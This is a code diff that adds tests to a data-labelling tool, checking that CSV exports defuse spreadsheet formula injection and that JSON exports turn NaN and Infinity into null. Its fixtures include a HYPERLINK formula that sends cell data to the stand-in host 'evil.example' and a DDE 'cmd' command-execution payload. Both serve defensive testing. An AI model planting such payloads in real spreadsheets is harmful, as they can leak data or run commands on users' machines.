@@ -405,3 +405,93 @@ def test_an_item_people_have_not_finished_deciding_has_no_final_label(tmp_path) 
     assert project.store.get_route("gd00").route == "active"
     svc.close()
     project.store.close()
+
+
+# -- CSV injection: a cell a spreadsheet would run is written as text --------------------------
+
+FORMULAS = [
+    # (case, id, text): each cell starts with what a spreadsheet reads as a formula
+    ("equals", "f1", "=1+2"),
+    ("plus", "f2", "+1+2"),
+    ("minus", "f3", "-1+2"),
+    ("at", "f4", "@SUM(A1)"),
+    ("tab", "f5", "\t=1+2"),
+    ("carriage return", "f6", "\r=1+2"),
+    ("hyperlink", "f7", '=HYPERLINK("https://evil.example/?d="&A1,"Click")'),
+    ("formula id", "=c7", "an ordinary text"),
+    ("negative number in a text field", "f9", "-3"),
+    ("a quote already before a formula", "f10", "'=1+2"),
+]  # fmt: skip
+TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def test_csv_export_defuses_formulas_and_imports_them_back(tmp_store, tmp_path: Path) -> None:
+    source = tmp_store("formulas")
+    rows = [{"id": i, "text": t, "label": "refund"} for _, i, t in FORMULAS]
+    import_file(source, SINGLE, jsonl(tmp_path / "f.jsonl", rows), reviewer="@ann")
+    [sid] = source.add_suggestions(
+        [Suggestion(item_id="f1", model="=m", value=LabelValue(label="refund"),
+                    confidence=0.5, rationale="+cmd|' /C calc'!A0")]
+    )  # fmt: skip
+    source.set_routes([RouteDecision(item_id="f1", route="active", reason="t", suggestion_id=sid)])
+    out = tmp_path / "out.csv"
+    export(source, out, "csv", model="=m")
+    with out.open(encoding="utf-8", newline="") as fh:
+        cells = {r["id"]: r for r in csv.DictReader(fh)}
+    for row in cells.values():
+        for value in row.values():
+            assert not value.startswith(TRIGGERS), value
+    expected = {i: "'" + t for _, i, t in FORMULAS if i != "=c7"}
+    assert {i: cells["'" + i if i.startswith("=") else i]["text"] for i in expected} == expected
+    assert "'=c7" in cells and cells["'=c7"]["text"] == "an ordinary text"
+    assert cells["f1"]["rationale"] == "'+cmd|' /C calc'!A0" and cells["f1"]["model"] == "'=m"
+    assert cells["f1"]["reviewers"] == "'@ann"
+    # labelloop's CSV import takes the quote off again: the same ids and texts come back
+    fresh = tmp_store("back")
+    import_file(fresh, SINGLE, out, reviewer="csv")
+    assert {(i.id, i.text) for i in fresh.iter_items()} == {(i, t) for _, i, t in FORMULAS}
+
+
+def test_blind_csv_export_defuses_formulas(tmp_store, tmp_path: Path) -> None:
+    source = tmp_store("blind")
+    rows = [{"id": i, "text": t} for _, i, t in FORMULAS]
+    import_file(source, SINGLE, jsonl(tmp_path / "f.jsonl", rows), reviewer="gold")
+    source.set_routes(
+        [RouteDecision(item_id=i, route="calibration", reason="t") for _, i, _ in FORMULAS]
+    )
+    out = tmp_path / "blind.csv"
+    export(source, out, "csv", queue="calibration", guideline=SINGLE)
+    with out.open(encoding="utf-8", newline="") as fh:
+        values = [v for r in csv.DictReader(fh) for v in r.values()]
+    assert values and not any(v.startswith(TRIGGERS) for v in values)
+    fresh = tmp_store("blind_back")
+    import_file(fresh, SINGLE, out, sample=True)
+    assert {(i.id, i.text) for i in fresh.iter_items()} == {(i, t) for _, i, t in FORMULAS}
+
+
+def test_json_exports_are_strict_json_whatever_the_store_holds(tmp_store, tmp_path: Path) -> None:
+    from agent.store.base import item_to_values
+    from agent.store.tables import ItemRow
+    from agent.types import Item
+
+    store = tmp_store("nan")
+    # a NaN kept from before imports refused it (SQLite stored what Python's JSON wrote)
+    item = Item(id="n1", text="t", meta={"score": float("nan"), "big": [float("-inf")]})
+    with store.transaction() as c:
+        c.execute(ItemRow.__table__.insert(), [item_to_values(item)])
+    out = tmp_path / "out.jsonl"
+    export(store, out, "jsonl")
+    [row] = [strict_json(line) for line in out.read_text(encoding="utf-8").splitlines()]
+    assert row["meta"] == {"score": None, "big": [None]}
+    export(store, tmp_path / "ls.json", "labelstudio", guideline=SINGLE)
+    [task] = strict_json((tmp_path / "ls.json").read_text(encoding="utf-8"))
+    assert task["meta"] == {"score": None, "big": [None]}
+
+
+def strict_json(text: str):
+    """JSON as the standard has it: NaN and Infinity are no JSON."""
+
+    def refuse(constant: str):
+        raise ValueError(f"{constant} is not JSON")
+
+    return json.loads(text, parse_constant=refuse)
